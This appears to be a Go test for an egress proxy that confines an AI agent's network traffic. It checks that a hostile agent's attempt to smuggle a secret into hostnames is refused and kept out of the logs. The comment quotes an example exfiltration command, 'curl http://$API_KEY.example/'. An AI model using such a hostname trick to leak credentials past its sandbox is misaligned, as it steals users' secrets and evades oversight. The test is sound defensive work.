package egress_test

import (
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/bot-bottle/bottleq/egress"
)

// TestLogsNameNoAgentHost is the hostile agent that spells an env value
// into the names it asks for ("curl http://$API_KEY.example/"): refused,
// unresolvable, wildcard-allowed and invalid names. The log, at debug
// level, never holds the value; it names a host only where an exact
// allow_hosts entry does. The record, which goes back to the producer,
// keeps every name.
func TestLogsNameNoAgentHost(t *testing.T) {
	t.Parallel()
	const secret = "s3cr3tvalue42"
	var logs lockedBuffer
	h := newHarness(t, func(c *egress.Config) {
		c.Logger = zerolog.New(&logs).Level(zerolog.DebugLevel)
	})
	tok := h.register(t, "t", egress.Policy{Hosts: []string{"allowed.test", "*.example.test"}})
	tlsPort := port(t, h.tls)
	for _, target := range []string{
		secret + ".denied.invalid:443",        // not in allow_hosts
		secret + ".example.test:" + tlsPort,   // allowed by the wildcard, does not resolve
		"meta.test:80",                        // allowed? no: not listed
		strings.Repeat(secret, 30) + ".x:443", // not a valid name (too long a label)
	} {
		resp, body, c := h.connect(t, tok, target)
		if c != nil {
			c.Close()
		}
		if resp.StatusCode == 200 {
			t.Errorf("CONNECT %s = 200, want a refusal (%q)", target, body)
		}
	}
	for _, u := range []string{
		"http://" + secret + ".denied.invalid/",
		"http://" + secret + ".example.test/",
		"http://allowed.test:" + port(t, h.plain) + "/",
	} {
		h.get(t, tok, u)
	}
	rec := h.p.Unregister("t")
	out := logs.String()
	if strings.Contains(strings.ToLower(out), secret) {
		t.Errorf("the log holds a name the agent made up:\n%s", out)
	}
	for _, want := range []string{`"host":"allowed.test"`, `"host_rule":"*.example.test"`, `"host_len":`, `"egress: refused"`, `"egress: cannot resolve"`} {
		if !strings.Contains(out, want) {
			t.Errorf("the log lacks %s:\n%s", want, out)
		}
	}
	var named bool
	for _, e := range rec.Entries {
		named = named || strings.HasPrefix(e.Host, secret)
	}
	if !named {
		t.Errorf("the record lost the names the agent asked for: %+v", rec)
	}
}
